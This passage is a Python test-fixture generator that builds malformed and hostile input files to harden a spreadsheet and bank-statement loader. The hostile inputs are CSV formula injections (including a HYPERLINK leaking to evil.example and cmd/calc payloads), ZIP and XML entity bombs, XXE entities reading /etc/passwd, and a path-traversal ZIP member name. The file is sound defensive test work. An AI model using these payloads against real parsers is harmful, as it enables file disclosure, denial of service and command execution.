"""Write the corpus of broken and hostile input files of issue #16 (hardening the loader).

    python tests/bad_inputs/make_bad_inputs.py [OUT_DIR]      # default: tests/bad_inputs/files/

Every case is one row of :data:`CASES` below: its name, the file written, what is wrong with it and
what ``recon load FILE`` must do with it:

* ``error``   - refuse the file: exit 2 and exactly one ``error: ...`` line on stderr naming the file
  (and matching ``error_match`` when given);
* ``rejects`` - load it: the rows in ``rejected`` go to the rejects table (naming file, row, a
  column matching the regex given - None for a whole-row problem - and a reason), exactly the rows
  in ``loaded`` go to the table, the rows in ``either`` may go to either or be counted as blank or
  footer lines, and ``values`` are canonical fields of loaded rows as the CSV output writes them.
  ``records`` counts every line/row of the table part of the file (preamble + header + data + blank
  + footer), so the report must add up to it.

The files are made from the real-layout samples in ``tests/samples/`` and from scratch. The script is
deterministic (fixed seeds, fixed ZIP timestamps) and everything it writes is small on disk: the
"huge" cases are huge only in what they declare or expand to (the ZIP bomb is about 1 MB). The
tests (``test_bad_inputs.py``) run it once per session into a temporary folder, so no binary file is
committed; ``files/`` is only where a person running it by hand gets the corpus to look at.
"""
from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLES = HERE.parent / "samples"
DEFAULT_OUT = HERE / "files"
ZIP_TIME = (2026, 10, 31, 12, 0, 0)
GIB = 1 << 30

# =========================================================================== building blocks

SHIP_HEADER = ["运单号", "快递公司", "订单号", "平台", "发货时间", "收件省份", "重量(kg)", "长(cm)", "宽(cm)", "高(cm)",
               "件数", "仓库"]
PAY_HEADER = ["收款单号", "收款日期", "客户编码", "付款户名", "收款金额", "收款方式", "备注"]
CMB_PREAMBLE = ["招商银行 企业网上银行 账户交易明细", "账号：571912345610801", "户名：某某电商有限公司",
                "查询区间：2026-10-01 至 2026-10-31", ""]
CMB_HEADER = ["交易日", "交易时间", "起息日", "交易类型", "借方金额", "贷方金额", "余额", "摘要", "流水号", "对方户名",
              "对方账号"]


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(ch in text for ch in ',"\r\n') else text


def _line(cells: list[str]) -> str:
    return ",".join(_cell(c) for c in cells)


def waybill(i: int) -> str:
    return f"SF{1234567890100 + i}"


def ship(i: int, **cells: str) -> str:
    """One ERP shipment line (template erp_shipments); ``cells`` replace columns by header name."""
    row = dict(zip(SHIP_HEADER, [waybill(i), "顺丰速运", f"35123456789{i:08d}", "淘宝",
                                 f"2026-10-{1 + i % 28:02d} 16:00:00", "上海", "0.80", "20", "15", "10", "1", "杭州仓"]))
    for name, value in cells.items():
        assert name in row, name
        row[name] = value
    return _line(list(row.values()))


def shipments(lines: list[str], *, bom: bool = True, newline: str = "\n") -> bytes:
    text = newline.join([_line(SHIP_HEADER), *lines]) + newline
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")


def pay(i: int, amount: str = "100.00", memo: str = "") -> str:
    """One B2B payment line (template b2b_payments)."""
    return _line([f"SK20261018{i:02d}", f"2026-10-{10 + i:02d}", "C001", "甲商贸有限公司", amount, "银行转账", memo])


def payments(lines: list[str]) -> bytes:
    return b"\xef\xbb\xbf" + ("\n".join([_line(PAY_HEADER), *lines]) + "\n").encode("utf-8")


def cmb(i: int, *, day: str | None = None, time: str = "09:12:30", debit: str = "", credit: str = "100.00",
        balance: str | None = None, memo: str = "拼多多提现", counterparty: str = "上海寻梦信息技术有限公司") -> str:
    """One CMB corporate statement line (template cmb_corporate); sign of the amount from 借方/贷方."""
    day = day or f"2026-10-{1 + i:02d}"
    return _line([day, time, day, "转账", debit, credit, balance or f"{10000 + i}.00", memo, f"G20261005{i:05d}",
                  counterparty, "31001234567"])


def cmb_statement(lines: list[str], footer: bool = True) -> list[str]:
    return [*CMB_PREAMBLE, _line(CMB_HEADER), *lines, *(["合计,,,,,,,,,,"] if footer else [])]


def gbk(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("gbk")


def _sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def _zip(members: list[tuple[str, bytes]], *, utf8_names: bool = True) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def _alipay_account_member() -> tuple[str, bytes]:
    """The 账务明细 member of the real-layout Alipay merchant sample (GBK text, GBK name)."""
    with zipfile.ZipFile(SAMPLES / "alipay_merchant_account.zip") as z:
        info = max(z.infolist(), key=lambda i: i.file_size)
        return info.filename, z.read(info)


# --------------------------------------------------------------------------- XLSX from the WMS sample

def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _col(j: int) -> str:
    name = ""
    j += 1
    while j:
        j, r = divmod(j - 1, 26)
        name = chr(65 + r) + name
    return name


def sheet_xml(rows: list[list[object]], *, dimension: str | None = None, extra: str = "",
              doctype: str = "") -> str:
    """A worksheet: str cells inline, int/float numbers, ``("raw", xml)`` for a cell written as given."""
    out = []
    for i, row in enumerate(rows, start=1):
        cells = []
        for j, value in enumerate(row):
            ref = f"{_col(j)}{i}"
            if value is None or value == "":
                continue
            if isinstance(value, tuple):
                cells.append(value[1].replace("{ref}", ref))
            elif isinstance(value, str):
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_xml(value)}</t></is></c>')
            else:
                cells.append(f'<c r="{ref}" t="n"><v>{value}</v></c>')
        out.append(f'<row r="{i}">{"".join(cells)}</row>')
    width = max(len(r) for r in rows)
    dim = dimension or f"A1:{_col(width - 1)}{len(rows)}"
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="{dim}"/><sheetData>{"".join(out)}{extra}</sheetData></worksheet>')


def xlsx(sheet: str | bytes, *, date_style: bool = False, styles: str | None = None,
         shared_strings: str | None = None) -> bytes:
    """The WMS sample workbook with its only sheet replaced (``date_style``: style 1 is a date format;
    ``styles`` replaces xl/styles.xml; ``shared_strings`` adds an xl/sharedStrings.xml part)."""
    with zipfile.ZipFile(SAMPLES / "wms_outbound.xlsx") as src:
        members = [(i.filename, src.read(i)) for i in src.infolist()]
    out = []
    for name, data in members:
        if name == "xl/worksheets/sheet1.xml":
            data = sheet.encode("utf-8") if isinstance(sheet, str) else sheet
        elif name == "xl/styles.xml" and styles is not None:
            data = styles.encode("utf-8")
        elif name == "[Content_Types].xml" and shared_strings is not None:
            data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>')
        elif name == "xl/_rels/workbook.xml.rels" and shared_strings is not None:
            data = data.replace(b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/'
                                b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml" '
                                b'Id="rId9" /></Relationships>')
        elif name == "xl/styles.xml" and date_style:
            text = data.decode("utf-8")
            text = re.sub(r'<cellXfs count="1">(<xf [^>]*/>)</cellXfs>',
                          r'<cellXfs count="2">\1<xf numFmtId="22" fontId="0" fillId="0" borderId="0" '
                          r'applyNumberFormat="1" xfId="0" /></cellXfs>', text)
            assert 'numFmtId="22"' in text
            data = text.encode("utf-8")
        out.append((name, data))
    if shared_strings is not None:
        out.append(("xl/sharedStrings.xml", shared_strings.encode("utf-8")))
    return _zip(out)


WMS_HEADER = ["出库单号", "订单号", "平台", "SKU", "商品名称", "出库数量", "出库时间", "仓库", "运单号", "快递公司", "状态"]


def wms(i: int, **cells: object) -> list[object]:
    row = dict(zip(WMS_HEADER, [f"CK2026100100{i}", f"35123456789{i:08d}", "淘宝", "LYQ-01", "连衣裙", 1,
                                f"2026-10-0{i} 15:30:00", "杭州仓", waybill(i), "顺丰速运", "已出库"]))
    row.update(cells)
    return list(row.values())


def wms_rows(n: int = 3) -> list[list[object]]:
    return [WMS_HEADER] + [wms(i) for i in range(1, n + 1)]


# =========================================================================== the builders

def cr_only() -> bytes:
    return shipments([ship(i) for i in range(1, 6)], newline="\r")


def unclosed_quote() -> bytes:
    lines = [ship(i) for i in range(1, 201)]                     # data on lines 2..201
    lines[98] = ship(99, 收件省份="上海").replace(",上海,", ',"上海,')  # line 100: a quote never closed
    return shipments(lines)


def heji_waybill() -> bytes:
    lines = [ship(i) for i in range(1, 10)]                      # lines 2..10
    lines[3] = ship(4, 运单号="合计")                              # line 5 is a data row, not the total
    return shipments(lines)


def gbk_rows_in_utf8() -> bytes:
    out = [b"\xef\xbb\xbf" + _line(SHIP_HEADER).encode("utf-8")]
    for i in range(1, 11):                                       # lines 2..11; 4, 7, 9 in GBK
        text = ship(i, 仓库="广州白云仓", 快递公司="顺丰速运")
        out.append(text.encode("gbk" if i + 1 in (4, 7, 9) else "utf-8"))
    return b"\n".join(out) + b"\n"


def utf8_row_in_gbk() -> bytes:
    lines = [cmb(i) for i in range(1, 6)]                       # lines 7..11
    lines[2] = cmb(3, memo="京东结算款")                          # line 9: written in UTF-8 below
    body = [(l.encode("utf-8") if k == 2 else l.encode("gbk")) for k, l in enumerate(lines)]
    head = [l.encode("gbk") for l in cmb_statement([], footer=False)]
    return b"\n".join(head + body + ["合计,,,,,,,,,,".encode("gbk")]) + b"\n"


def nul_row() -> bytes:
    out = [b"\xef\xbb\xbf" + _line(SHIP_HEADER).encode("utf-8")]
    for i in range(1, 11):                                       # lines 2..11; line 6 is 60 NUL bytes
        out.append(b"\x00" * 60 if i == 5 else ship(i).encode("utf-8"))
    return b"\n".join(out) + b"\n"


def amount_case(bad: str) -> Callable[[], bytes]:
    def build() -> bytes:                                        # lines 2..6; line 4 holds the amount
        return payments([pay(1, "13,560.00"), pay(2), pay(3, bad), pay(4, "-20.50"), pay(5, "3000")])
    return build


def ship_case(column: str, bad: str) -> Callable[[], bytes]:
    def build() -> bytes:                                        # lines 2..6; line 4 holds the value
        return shipments([ship(1), ship(2), ship(3, **{column: bad}), ship(4), ship(5)])
    return build


def huge_cell() -> bytes:
    return shipments([ship(1), ship(2, 仓库="仓" + "x" * 999_999), ship(3), ship(4)])


def bom_in_the_middle() -> bytes:
    """Two exports pasted together: the second one's BOM and header sit on line 5."""
    first = shipments([ship(1), ship(2), ship(3)])
    second = shipments([ship(4), ship(5), ship(6)])
    return first + second


def header_twice() -> bytes:
    return shipments([_line(SHIP_HEADER)] + [ship(i) for i in range(1, 5)])


def duplicate_unmapped_columns() -> bytes:
    header = SHIP_HEADER + ["备注", "备注"]
    lines = [ship(i) + f",备注{i},第二备注{i}" for i in range(1, 4)]
    return b"\xef\xbb\xbf" + ("\n".join([_line(header), *lines]) + "\n").encode("utf-8")


def ragged_gbk() -> bytes:
    lines = [cmb(1), cmb(2) + ",", "2026-10-04,10:00:00", cmb(4), cmb(5) + ",多出来,的格子", cmb(6)]  # lines 7..12
    return gbk(cmb_statement(lines))


def quoted_newlines_gbk() -> bytes:
    text = _sample("alipay_merchant_trade_gbk.csv").decode("gbk")
    text = text.replace(",连衣裙,", ',"连衣裙\n（加长款）",', 1).replace(",下单\n", ',"下单\r\n备注第二行"\n', 1)
    text = text.replace(",手机壳,", ',"手机壳\n\n两行空行",', 1)
    return text.encode("gbk")


#: cell texts that a spreadsheet runs as formulas (OWASP "CSV injection"); the last has a leading TAB
FORMULAS = ['=HYPERLINK("http://evil.example/?leak=1","点这里")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def formula_payloads() -> bytes:
    """CMB statement (GBK): 摘要 of lines 7-11 are FORMULAS, 对方户名 of line 12 is =1+1, 贷方金额 of line 13 too."""
    lines = [cmb(1, memo=FORMULAS[0], debit="1,000.00", credit="", balance="-1000.00")]
    lines += [cmb(k + 1, memo=payload, credit="5.00") for k, payload in enumerate(FORMULAS[1:], start=1)]
    lines += [cmb(6, counterparty="=1+1", credit="7.00"), cmb(7, credit="=1+1")]
    return gbk(cmb_statement(lines))


def cmb_date(bad: str) -> Callable[[], bytes]:
    def build() -> bytes:                                        # lines 7..11; line 9 holds the date
        return gbk(cmb_statement([cmb(1), cmb(2), cmb(3, day=bad), cmb(4), cmb(5)]))
    return build


def footer_label_variants() -> bytes:
    """Five shipments, then three totals lines labelled 本页合计, 合计金额 and 人民币合计."""
    lines = [ship(i) for i in range(1, 6)]                       # lines 2..6; footer on 7..9
    return shipments(lines + ["本页合计,,,,,,4.00,,,,5,", "合计金额,,,,,,4.00,,,,5,", "人民币合计：肆元整"])


def mixed_line_ends() -> bytes:
    """Shipments whose lines end in LF, CRLF and a lone CR in turn (files stitched from several systems)."""
    ends = ["\n", "\r\n", "\r"]
    text = "".join(line + ends[k % 3] for k, line in enumerate([_line(SHIP_HEADER)] + [ship(i) for i in range(1, 7)]))
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def unclosed_quote_then_quoted_newline() -> bytes:
    """Line 3 opens a quote never closed; line 6 holds a quoted cell with a newline (lines 6-7)."""
    lines = [ship(i) for i in range(1, 10)]
    lines[1] = ship(2).replace(",上海,", ',"上海,')
    lines[4] = ship(5, 仓库="杭州仓\n二号库")
    return shipments(lines)


def duplicate_mapped_header() -> bytes:
    header = [*SHIP_HEADER[:1], *SHIP_HEADER, ]
    lines = [waybill(i) + "," + ship(i) for i in range(1, 4)]
    return b"\xef\xbb\xbf" + ("\n".join([_line(header), *lines]) + "\n").encode("utf-8")


def zero_width_keys() -> bytes:
    return shipments([ship(1, 运单号=waybill(1)[:6] + "\u200b" + waybill(1)[6:]),
                      ship(2, 运单号="\u200b" + waybill(2)),
                      ship(3, 运单号=waybill(3) + "\u2060"),
                      ship(4, 运单号=waybill(4)[:4] + "\u200d" + waybill(4)[4:])])


def fullwidth_keys() -> bytes:
    wide = str.maketrans("0123456789SF", "０１２３４５６７８９ＳＦ")
    return shipments([ship(1, 运单号=waybill(1).translate(wide)), ship(2),
                      ship(3, 订单号=f"35123456789{3:08d}".translate(wide))])


def header_only_xlsx() -> bytes:
    rows = [["顺丰速运 月结对账单"], ["客户名称：某某电商有限公司"], ["月结卡号：7551234567"],
            ["账单周期：2026-10-01至2026-10-31"], [""],
            ["序号", "运单号码", "寄件日期", "原寄地", "目的地", "产品类型", "件数", "实际重量(kg)", "体积重(kg)", "计费重量(kg)",
             "运费", "保价费", "燃油附加费", "应付金额", "客户订单号"],
            ["合计", "", "", "", "", "", "", "", "", "", 0, "", "", 0, ""]]
    return xlsx(sheet_xml(rows))


def header_only_gbk() -> bytes:
    return gbk(cmb_statement([]))


def random_bytes(n: int, seed: int, prefix: bytes = b"") -> Callable[[], bytes]:
    def build() -> bytes:
        return prefix + random.Random(seed).randbytes(n)
    return build


def csv_named_xlsx() -> bytes:
    return shipments([ship(1), ship(2), ship(3)])


def stray_cell_xfd() -> bytes:
    """The WMS sheet plus one stray cell at XFD1048576, the last cell a sheet can have."""
    return xlsx(sheet_xml(wms_rows(), dimension="A1:XFD1048576",
                          extra='<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'))


def huge_dimension() -> bytes:
    """Three real rows, but the sheet declares the whole grid A1:XFD1048576 as used."""
    return xlsx(sheet_xml(wms_rows(), dimension="A1:XFD1048576"))


def xlsx_ratio_bomb() -> bytes:
    """The WMS workbook whose sheet XML carries 40 MiB of whitespace: 40 KB on disk, 1000x inflated."""
    return xlsx(sheet_xml(wms_rows()).replace("<sheetData>", "<sheetData>" + " " * (40 << 20), 1))


def broken_sheet_xml() -> bytes:
    text = sheet_xml(wms_rows())
    return xlsx(text[: text.index("<row r=\"3\">") + 40])        # cut inside row 3: not well-formed XML


def error_cells() -> bytes:
    rows = wms_rows(5)
    rows[2][5] = ("raw", '<c r="{ref}" t="e"><v>#DIV/0!</v></c>')  # row 3 出库数量
    rows[4][6] = ("raw", '<c r="{ref}" t="e"><v>#N/A</v></c>')     # row 5 出库时间
    return xlsx(sheet_xml(rows))


def huge_date_serial() -> bytes:
    """出库时间 as date-formatted numbers; row 3 holds serial 1e15, far past year 9999."""
    rows = wms_rows(4)
    for i, serial in ((1, 46296.6458), (2, 1e15), (3, 46297.375), (4, -5)):
        rows[i][6] = ("raw", f'<c r="{{ref}}" s="1"><v>{serial}</v></c>')
    return xlsx(sheet_xml(rows), date_style=True)


def xlsx_inf_quantity() -> bytes:
    rows = wms_rows(4)
    rows[2][5] = ("raw", '<c r="{ref}" t="n"><v>1e309</v></c>')    # row 3
    rows[3][5] = ("raw", '<c r="{ref}" t="n"><v>NaN</v></c>')      # row 4
    return xlsx(sheet_xml(rows))


def missing_shared_string() -> bytes:
    rows = wms_rows(3)
    rows[2][0] = ("raw", '<c r="{ref}" t="s"><v>9999</v></c>')     # row 3 出库单号: no such shared string
    return xlsx(sheet_xml(rows))


def xml_entity_bomb_xlsx() -> bytes:
    """Billion laughs in the sheet XML: 10 levels of 10x expansion referenced from one cell."""
    ents = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{k} "{("&l" + str(k - 1) + ";") * 10}">' for k in range(1, 10)]
    doctype = "<!DOCTYPE worksheet [" + "".join(ents) + "]>"
    rows = wms_rows(3)
    rows[2][4] = ("raw", '<c r="{ref}" t="inlineStr"><is><t>&l9;</t></is></c>')  # row 3 商品名称
    return xlsx(sheet_xml(rows, doctype=doctype))


SST_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '


def shared_strings_bomb() -> bytes:
    """Shared strings declaring 2,000,000,000 entries (a reader that trusts it reserves gigabytes) and
    holding 100,000 distinct ones; rows 2-4 use strings 0, 50,000 and 99,999 for 商品名称."""
    strings = "".join(f"<si><t>品名{k:06d}</t></si>" for k in range(100_000))
    sst = SST_HEAD + f'count="2000000000" uniqueCount="2000000000">{strings}</sst>'
    rows = wms_rows(3)
    for i, k in ((1, 0), (2, 50_000), (3, 99_999)):
        rows[i][4] = ("raw", f'<c r="{{ref}}" t="s"><v>{k}</v></c>')
    return xlsx(sheet_xml(rows), shared_strings=sst)


def huge_styles() -> bytes:
    """styles.xml declaring 100,000,000 cell formats and holding 200,000; row 3's 出库数量 uses the last."""
    xf = '<xf numFmtId="{n}" fontId="0" fillId="0" borderId="0" xfId="0" />'
    formats = "".join(xf.format(n=k % 50) for k in range(200_000))
    styles = ('<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font>'
              '<sz val="11" /><name val="Calibri" /></font></fonts><fills count="1"><fill><patternFill /></fill></fills>'
              '<borders count="1"><border /></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
              f'borderId="0" /></cellStyleXfs><cellXfs count="100000000">{formats}</cellXfs></styleSheet>')
    rows = wms_rows(3)
    rows[2][5] = ("raw", '<c r="{ref}" s="199999" t="n"><v>2</v></c>')
    return xlsx(sheet_xml(rows), styles=styles)


# --------------------------------------------------------------------------- CSV, very wide

def csv_100000_columns() -> bytes:
    """A shipments header followed by 100,000 more columns, and a row as wide."""
    header = SHIP_HEADER + [f"c{k}" for k in range(100_000)]
    return b"\xef\xbb\xbf" + ("\n".join([_line(header), ship(1) + "," * 100_000]) + "\n").encode()


def csv_row_of_100000_cells() -> bytes:
    """Shipments where line 3 carries 100,000 filled cells past the header's 12."""
    return shipments([ship(1), ship(2) + ",1" * 100_000, ship(3), ship(4)])


# --------------------------------------------------------------------------- ZIP

def _deflate_repeat(head: bytes, chunk: bytes, repeat: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk * repeat + tail without ever holding the expansion.

    After a full flush the compressor starts afresh, so every copy of ``chunk`` compresses to the
    same bytes: compress it once and repeat the bytes.
    """
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "zlib did not restart after a full flush"
    last = c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(repeat):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return first + block * repeat + last, crc, len(head) + len(chunk) * repeat + len(tail)


def _raw_zip(name: bytes, deflated: bytes, crc: int, size: int, *, flags: int = 0) -> bytes:
    """A one-member ZIP written by hand (the member already deflated)."""
    dos_time = (ZIP_TIME[3] << 11) | (ZIP_TIME[4] << 5) | (ZIP_TIME[5] // 2)
    dos_date = ((ZIP_TIME[0] - 1980) << 9) | (ZIP_TIME[1] << 5) | ZIP_TIME[2]
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 8, dos_time, dos_date, crc, len(deflated), size,
                        len(name), 0) + name
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, 8, dos_time, dos_date, crc,
                          len(deflated), size, len(name), 0, 0, 0, 0, 0o644 << 16, 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(deflated), 0)
    return local + deflated + central + end


def zip_bomb() -> bytes:
    """The Alipay 账务明细 member with a 1 GiB run of spaces in its last 备注 cell: 1 MB on disk."""
    name, member = _alipay_account_member()
    cut = member.index(b"\n#---", member.index("账务明细列表".encode("gbk")) + 10)
    head, tail = member[:cut - 1], member[cut - 1:]              # the pad goes just before the last row's newline
    deflated, crc, size = _deflate_repeat(head, b" " * (1 << 20), GIB >> 20, tail)
    return _raw_zip(name.encode("cp437"), deflated, crc, size)


def zip_ratio_bomb() -> bytes:
    """A shipments CSV whose last cell is 40 MiB of spaces: under the size limit, but 1000x compressed."""
    head = shipments([ship(1), ship(2)]).rstrip(b"\n")
    deflated, crc, size = _deflate_repeat(head, b" " * (1 << 20), 40, b"\n")
    return _raw_zip(b"shipments.csv", deflated, crc, size)


def _alipay_zip_bytes() -> bytes:
    name, member = _alipay_account_member()
    return _zip([(name.encode("cp437").decode("gb18030"), member)])


def zip_corrupt_deflate() -> bytes:
    """The 账务明细 member deflated, then the start of its deflate stream scribbled over."""
    data = bytearray(_alipay_zip_bytes())
    name_len, extra_len = struct.unpack_from("<HH", data, 26)
    start = 30 + name_len + extra_len
    for k in range(1, 4):
        data[start + k] ^= 0xFF
    return bytes(data)


def zip_bad_crc() -> bytes:
    data = bytearray(_sample("alipay_merchant_account.zip"))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        infos = z.infolist()
        central = data.find(b"PK\x01\x02")
    for info in infos:                                           # flip the CRC in local and central headers
        for at in (info.header_offset + 14, data.find(b"PK\x01\x02", central) + 16):
            data[at] ^= 0xFF
        central = data.find(b"PK\x01\x02", central) + 4
    return bytes(data)


def zip_encrypted() -> bytes:
    data = bytearray(_sample("alipay_merchant_account.zip"))
    at = 0
    while True:                                                  # set the "encrypted" flag on every header
        local, central = data.find(b"PK\x03\x04", at), data.find(b"PK\x01\x02", at)
        hits = [p for p in (local, central) if p >= 0]
        if not hits:
            return bytes(data)
        p = min(hits)
        data[p + (6 if p == local else 8)] |= 0x01
        at = p + 4


def zip_truncated() -> bytes:
    data = _sample("alipay_merchant_account.zip")
    return data[: len(data) * 2 // 3]


def zip_in_zip() -> bytes:
    return _zip([("inner.zip", _sample("alipay_merchant_account.zip"))])


def zip_traversal_name() -> bytes:
    _, member = _alipay_account_member()
    return _zip([("../../../../tmp/evil/账务明细.csv", member)])


def zip_many_members() -> bytes:
    """The real 账务明细 member among 1,500 one-line junk text members."""
    _, member = _alipay_account_member()
    junk = [(f"junk/{k:04d}.txt", f"备注 {k}\n".encode()) for k in range(1500)]
    return _zip(junk[:750] + [("账务明细.csv", member)] + junk[750:])


# --------------------------------------------------------------------------- bank files

def mt940(lines_61: list[str], details: dict[int, str] | None = None) -> bytes:
    body = [":20:STMT20261031", ":25:CMBCCNBS/571912345610801", ":28C:1/1", ":60F:C261001CNY1000,00"]
    for k, line in enumerate(lines_61):
        body += [line, (details or {}).get(k, f":86:付款 {k + 1}")]
    body += [":62F:C261031CNY1300,00", "-"]
    return ("\r\n".join(body) + "\r\n").encode("utf-8")


def mt940_bad_amounts() -> bytes:
    return mt940([":61:2610051005C100,00NTRFNONREF", ":61:2610061006C1,2,3NTRFNONREF",
                  ":61:2610071007C200,00NTRFNONREF", ":61:2610081008C--5,00NTRFNONREF"])


def mt940_absurd_lengths() -> bytes:
    """Line 7 an amount of 100,000 digits, line 9 a 40,000-character reference, line 10 a :86: of
    40,000 characters (SWIFT allows 15 digits, 16 and 6 x 65 characters); lines 5 and 11 are ordinary."""
    return mt940([":61:2610051005C100,00NTRFNONREF", ":61:2610061006C" + "9" * 100_000 + ",00NTRFNONREF",
                  ":61:2610071007C200,00NTRF" + "R" * 40_000, ":61:2610081008C300,00NTRFNONREF"],
                 details={2: ":86:" + "备注" * 20_000})


def mt940_truncated() -> bytes:
    data = mt940([":61:2610051005C100,00NTRFNONREF", ":61:2610061006C200,00NTRFNONREF"])
    return data[: data.index(b":62F:")]                          # cut before the closing balance


CAMT_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
             '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>'
             '<GrpHdr><MsgId>M1</MsgId><CreDtTm>2026-10-31T12:00:00</CreDtTm></GrpHdr>'
             '<Stmt><Id>S1</Id><CreDtTm>2026-10-31T12:00:00</CreDtTm>'
             '<Acct><Id><IBAN>CN0012345678901234</IBAN></Id><Ccy>CNY</Ccy></Acct>\n')
CAMT_TAIL = "</Stmt></BkToCstmrStmt></Document>\n"


def camt_entry(amount: str, day: str, ref: str) -> str:
    return (f'<Ntry><Amt Ccy="CNY">{amount}</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>'
            f'<BookgDt><Dt>{day}</Dt></BookgDt><ValDt><Dt>{day}</Dt></ValDt><AcctSvcrRef>{ref}</AcctSvcrRef>'
            f'<NtryDtls><TxDtls><RmtInf><Ustrd>{ref}</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>\n')


def camt(entries: list[str], doctype: str = "", *, message: str = "053") -> bytes:
    """A camt.053 statement, or with ``message`` 052/054 the intraday report or the notification."""
    root, item = {"053": ("BkToCstmrStmt", "Stmt"), "052": ("BkToCstmrAcctRpt", "Rpt"),
                  "054": ("BkToCstmrDbtCdtNtfctn", "Ntfctn")}[message]
    head = CAMT_HEAD.replace("camt.053", f"camt.{message}").replace("BkToCstmrStmt", root).replace("<Stmt>", f"<{item}>")
    tail = CAMT_TAIL.replace("BkToCstmrStmt", root).replace("</Stmt>", f"</{item}>")
    return (head.format(doctype=doctype) + "".join(entries) + tail).encode("utf-8")


LAUGHS = "<!DOCTYPE Document [" + "".join(['<!ENTITY l0 "lol">'] + [
    f'<!ENTITY l{k} "{("&l" + str(k - 1) + ";") * 10}">' for k in range(1, 10)]) + "]>\n"
XXE = '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'


def camt052_billion_laughs() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "&l9;")], doctype=LAUGHS, message="052")


def camt054_billion_laughs() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "&l9;")], doctype=LAUGHS, message="054")


def camt052_external_entity() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "&x;")], doctype=XXE, message="052")


def camt054_external_entity() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "&x;")], doctype=XXE, message="054")


def camt_external_dtd() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "R1")],
                doctype='<!DOCTYPE Document SYSTEM "http://example.invalid/camt.dtd">\n')


def camt_deep_nesting() -> bytes:
    """An entry whose remittance text nests 10,000 elements (a walk of the tree would overflow)."""
    deep = "<Ustrd>" + "<a>" * 10_000 + "</a>" * 10_000 + "</Ustrd>"
    return camt([camt_entry("10.00", "2026-10-05", "R1").replace("<Ustrd>R1</Ustrd>", deep)])


def camt_billion_laughs() -> bytes:
    ents = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{k} "{("&l" + str(k - 1) + ";") * 10}">' for k in range(1, 10)]
    return camt([camt_entry("10.00", "2026-10-05", "&l9;")], doctype="<!DOCTYPE Document [" + "".join(ents) + "]>\n")


def camt_external_entity() -> bytes:
    return camt([camt_entry("10.00", "2026-10-05", "&x;")],
                doctype='<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n')


def camt_bad_dates() -> bytes:
    # one entry a line: lines 3, 4, 5 and 6
    return camt([camt_entry("10.00", "2026-10-05", "R1"), camt_entry("20.00", "2026-02-30", "R2"),
                 camt_entry("30.00", "2026-10-07", "R3"), camt_entry("40.00", "0000-00-00", "R4")])


def ofx(amounts: list[str]) -> bytes:
    head = ["OFXHEADER:100", "DATA:OFXSGML", "VERSION:102", "SECURITY:NONE", "ENCODING:USASCII", "CHARSET:1252",
            "COMPRESSION:NONE", "OLDFILEUID:NONE", "NEWFILEUID:NONE", "",
            "<OFX>", "<BANKMSGSRSV1>", "<STMTTRNRS>", "<TRNUID>1", "<STMTRS>", "<CURDEF>CNY",
            "<BANKACCTFROM>", "<BANKID>308", "<ACCTID>571912345610801", "<ACCTTYPE>CHECKING", "</BANKACCTFROM>",
            "<BANKTRANLIST>", "<DTSTART>20261001", "<DTEND>20261031"]
    body = []
